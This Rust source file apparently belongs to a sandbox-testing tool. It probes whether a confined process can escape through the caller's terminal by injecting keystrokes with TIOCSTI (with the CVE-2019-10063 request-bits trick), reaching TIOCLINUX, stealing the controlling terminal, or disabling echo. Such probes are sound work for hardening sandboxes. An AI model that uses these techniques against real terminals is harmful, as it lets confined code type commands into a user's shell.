//! The caller's terminal.

use std::fs::{File, OpenOptions};
use std::os::fd::AsRawFd;

use crate::call::{Result, sys};
use crate::outcome::{Arguments, Named, Outcome, Tries};

pub(crate) const PROBES: &[Named] = &[
    ("type-into-terminal", type_into_terminal),
    ("paste-into-terminal", paste_into_terminal),
    ("take-terminal", take_terminal),
    ("change-terminal", change_terminal),
];

/// The descriptors that may be a terminal: everything inherited, and what can be opened.
fn terminals() -> Vec<i32> {
    let opened = ["/dev/tty", "/dev/pts/0", "/dev/console", "/proc/self/fd/0", "/proc/1/fd/0"];
    let opened = opened.into_iter().filter_map(|path| OpenOptions::new().read(true).open(path).ok()).map(|file| {
        let number = file.as_raw_fd();
        std::mem::forget::<File>(file);
        number
    });
    (0..16).chain(opened).collect()
}

/// An ioctl with all 64 bits of the request as given.
fn ioctl(descriptor: i32, request: u64, argument: *const u8) -> Result {
    sys!(ioctl, descriptor, request, argument)
}

/// BITS TEXT: types TEXT as if the user had, which the shell would run once the job has ended. BITS is ored into the
/// request: the kernel looks at the low half only (CVE-2019-10063).
fn type_into_terminal(args: &Arguments) -> Outcome {
    let mut tries = Tries::new();
    let request = libc::TIOCSTI | args.number::<u64>(0) << 32;
    for descriptor in terminals() {
        let typed = args.text(1).as_bytes().iter().map(|byte| ioctl(descriptor, request, byte));
        if tries.of(format!("TIOCSTI on {descriptor}"), typed.collect::<Result<Vec<_>>>()).is_some() {
            return Outcome::escaped(format!("typed into descriptor {descriptor}"));
        }
    }
    tries.blocked()
}

/// Pastes the selection of a virtual console (CVE-2023-28100). The request selects nothing and asks for a state only.
fn paste_into_terminal(_: &Arguments) -> Outcome {
    const TIOCLINUX: u64 = 0x541c;
    const SHIFT_STATE: u8 = 6;
    let mut tries = Tries::new();
    for descriptor in terminals() {
        for bits in [0, 1 << 32] {
            let mut code = [SHIFT_STATE, 0];
            let asked = ioctl(descriptor, TIOCLINUX | bits, code.as_mut_ptr());
            if tries.of(format!("TIOCLINUX on {descriptor}"), asked).is_some() {
                return Outcome::escaped(format!("descriptor {descriptor} is a virtual console"));
            }
        }
    }
    tries.blocked()
}

/// Makes the caller's terminal its own controlling one.
fn take_terminal(_: &Arguments) -> Outcome {
    let mut tries = Tries::new();
    if tries.of("/dev/tty", File::open("/dev/tty")).is_some() {
        return Outcome::escaped("has a controlling terminal");
    }
    // SAFETY: no arguments. Fails for a leader of a process group, which a probe is not always.
    unsafe { libc::setsid() };
    for descriptor in terminals() {
        for steal in [0_usize, 1] {
            let taken = sys!(ioctl, descriptor, libc::TIOCSCTTY, steal);
            if tries.of(format!("TIOCSCTTY on {descriptor}"), taken).is_some() {
                return Outcome::escaped(format!("took descriptor {descriptor} as its terminal"));
            }
        }
    }
    tries.blocked()
}

/// Leaves the caller's terminal without echo.
fn change_terminal(_: &Arguments) -> Outcome {
    let mut tries = Tries::new();
    for descriptor in terminals() {
        // SAFETY: a struct termios is numbers, for which zeros are good values.
        let mut modes: libc::termios = unsafe { std::mem::zeroed() };
        let got = sys!(ioctl, descriptor, libc::TCGETS, &raw mut modes);
        if tries.of(format!("TCGETS on {descriptor}"), got).is_none() {
            continue;
        }
        modes.c_lflag &= !(libc::ECHO | libc::ISIG);
        let set = sys!(ioctl, descriptor, libc::TCSETS, &raw const modes);
        if tries.of(format!("TCSETS on {descriptor}"), set).is_some() {
            return Outcome::escaped(format!("changed the modes of descriptor {descriptor}"));
        }
    }
    tries.blocked()
}
